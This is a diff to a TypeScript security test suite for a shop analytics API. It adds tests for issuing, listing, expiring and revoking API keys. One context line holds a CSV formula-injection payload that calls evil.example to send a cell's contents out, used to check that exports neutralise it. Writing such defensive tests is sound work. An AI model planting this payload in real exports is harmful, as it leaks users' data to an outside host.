@@ -13,6 +13,12 @@ import { createApiKey, putShop } from '#lib/store/shops.ts';
 import { setDb } from '#lib/store/client.ts';
 import { resetConfig } from '#lib/config.ts';
 import { recordBatch } from '#lib/ingest/record-batch.ts';
+import { handler as authorizer } from '#functions/authorizer/handler.ts';
+import { hashApiKey, shopOfApiKey } from '#lib/store/api-keys.ts';
+import { db, tableName } from '#lib/store/client.ts';
+import { keys } from '#lib/store/keys.ts';
+import { GetCommand } from '@aws-sdk/lib-dynamodb';
+import { lambdaContext } from '#test/support/http.ts';
 
 const SECRET_VALUES = Object.values(TEST_SECRETS);
 const addDaysIso = (day: string, n: number) => new Date(Date.parse(`${day}T00:00:00Z`) + n * 86_400_000).toISOString().slice(0, 10);
@@ -55,6 +61,8 @@ describe('security', () => {
     const routes: Array<[string, string, object | undefined]> = [
       ['PUT', '/v1/admin/shops/sec-a', { name: 'x' }],
       ['POST', '/v1/admin/shops/sec-a/api-keys', undefined],
+      ['GET', '/v1/admin/shops/sec-a/api-keys', undefined],
+      ['DELETE', '/v1/admin/shops/sec-a/api-keys/key_x', undefined],
       ['POST', '/v1/admin/rebuild', { shopId: 'sec-a', from: '2026-11-01', to: '2026-11-02' }],
       ['POST', '/v1/admin/digests/run', { shopId: 'sec-a', period: 'daily', date: '2026-11-01' }],
     ];
@@ -86,6 +94,69 @@ describe('security', () => {
     expect(res.body.error.message).toBe('Request body is not valid JSON');
   });
 
+  describe('API key lifecycle', () => {
+    const ADMIN = { authorization: `Bearer ${TEST_SECRETS.ADMIN_TOKEN}` };
+    const adminCall = (method: string, path: string, body?: object) => call(admin, httpEvent({ method, path, headers: ADMIN, ...(body ? { body } : {}) }));
+    const authorize = async (key: string) => ((await authorizer({ headers: { authorization: `Bearer ${key}` } } as never, lambdaContext)) as { context: { shopId: string } }).context.shopId;
+    const stored = async (key: string) => (await db().send(new GetCommand({ TableName: tableName(), Key: keys.apiKey(hashApiKey(key)) }))).Item;
+
+    it('issues a named, expiring key once, lists it without the key or its hash, and revokes it', async () => {
+      const expiresAt = new Date(Date.now() + 30 * 86_400_000).toISOString();
+      const made = await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { name: 'POS máy 1', expiresAt });
+      expect(made.status).toBe(201);
+      expect(Object.keys(made.body).sort()).toEqual(['apiKey', 'keyId']);
+      const { keyId, apiKey } = made.body as { keyId: string; apiKey: string };
+      expect(await authorize(apiKey)).toBe('sec-b');
+
+      const listed = await adminCall('GET', '/v1/admin/shops/sec-b/api-keys');
+      expect(listed.status).toBe(200);
+      const mine = listed.body.keys.find((k: { keyId: string }) => k.keyId === keyId);
+      expect(mine).toEqual({ keyId, name: 'POS máy 1', createdAt: expect.any(String), lastUsedAt: expect.any(String), expiresAt });
+      expect(listed.raw).not.toContain(apiKey);
+      expect(listed.raw).not.toContain(hashApiKey(apiKey));
+      // the keys issued in beforeAll (no name, no expiry) are listed too
+      expect(listed.body.keys.length).toBeGreaterThanOrEqual(2);
+
+      // another shop's path cannot revoke it
+      expect((await adminCall('DELETE', `/v1/admin/shops/sec-a/api-keys/${keyId}`)).status).toBe(404);
+      expect(await authorize(apiKey)).toBe('sec-b');
+
+      const revoked = await adminCall('DELETE', `/v1/admin/shops/sec-b/api-keys/${keyId}`);
+      expect(revoked.status).toBe(204);
+      expect(await authorize(apiKey)).toBe('');
+      const res = await call(report, httpEvent({ method: 'GET', path: '/v1/shops/sec-b/reports/overview', query: 'from=2026-11-01&to=2026-11-02', headers: { authorization: `Bearer ${apiKey}` } }));
+      expect(res.status).toBe(401);
+      expect((await adminCall('GET', '/v1/admin/shops/sec-b/api-keys')).body.keys.some((k: { keyId: string }) => k.keyId === keyId)).toBe(false);
+      expect((await adminCall('DELETE', `/v1/admin/shops/sec-b/api-keys/${keyId}`)).status).toBe(404);
+    });
+
+    it('refuses an expired key, and a request for a key that would be born expired', async () => {
+      const past = await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { expiresAt: '2020-01-01T00:00:00+07:00' });
+      expect(past.status).toBe(400);
+      expect(past.body.error.details).toEqual([{ path: 'expiresAt', message: 'must be in the future' }]);
+      expect((await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { name: 'x'.repeat(101) })).status).toBe(400);
+      expect((await adminCall('POST', '/v1/admin/shops/nope/api-keys', {})).status).toBe(404);
+
+      const expiresAt = '2030-01-01T00:00:00.000Z';
+      const key = (await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { expiresAt })).body.apiKey as string;
+      expect(await shopOfApiKey(key, Date.parse(expiresAt) - 1)).toBe('sec-b');
+      expect(await shopOfApiKey(key, Date.parse(expiresAt))).toBeUndefined();
+      expect(await shopOfApiKey(key, Date.parse(expiresAt) + 86_400_000)).toBeUndefined();
+    });
+
+    it('records the last use at most once an hour per key', async () => {
+      const key = (await adminCall('POST', '/v1/admin/shops/sec-b/api-keys', { name: 'busy' })).body.apiKey as string;
+      expect((await stored(key))?.lastUsedAt).toBeUndefined();
+      const t0 = Date.parse('2030-06-01T08:00:00.000Z');
+      await shopOfApiKey(key, t0);
+      expect((await stored(key))?.lastUsedAt).toBe('2030-06-01T08:00:00.000Z');
+      await shopOfApiKey(key, t0 + 59 * 60_000); // within the hour: no write
+      expect((await stored(key))?.lastUsedAt).toBe('2030-06-01T08:00:00.000Z');
+      await shopOfApiKey(key, t0 + 60 * 60_000);
+      expect((await stored(key))?.lastUsedAt).toBe('2030-06-01T09:00:00.000Z');
+    });
+  });
+
   it('writes hostile ids into CSV as text, never as a live formula', async () => {
     const evil = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm")';
     const at = new Date(Date.now() - 3_600_000).toISOString();
@@ -113,8 +184,9 @@ describe('security', () => {
   });
 
   it('caps an admin rebuild at 366 days like reports', async () => {
+    // an unknown shop: a range that passes validation then answers 404 without any work
     const rebuild = (from: string, to: string) =>
-      call(admin, httpEvent({ method: 'POST', path: '/v1/admin/rebuild', headers: { authorization: `Bearer ${TEST_SECRETS.ADMIN_TOKEN}` }, body: { shopId: 'sec-a', from, to } }));
+      call(admin, httpEvent({ method: 'POST', path: '/v1/admin/rebuild', headers: { authorization: `Bearer ${TEST_SECRETS.ADMIN_TOKEN}` }, body: { shopId: 'sec-none', from, to } }));
     const long = await rebuild('2000-01-01', '2099-12-31'); // a century: refused before any work
     expect(long.status).toBe(400);
     expect(long.body.error.details).toEqual([{ path: 'to', message: 'a range is at most 366 days' }]);
@@ -123,7 +195,7 @@ describe('security', () => {
     const over = await rebuild(addDaysIso(today, -366), today);
     expect(over.status).toBe(400);
     expect(over.body.error.details).toEqual([{ path: 'to', message: 'a range is at most 366 days' }]);
-    expect((await rebuild(addDaysIso(today, -365), today)).status).toBe(200);
+    expect((await rebuild(addDaysIso(today, -365), today)).status).toBe(404);
   });
 
   it('turns an internal failure into a 500 with a request id, no stack and no secret, in the response and the logs', async () => {
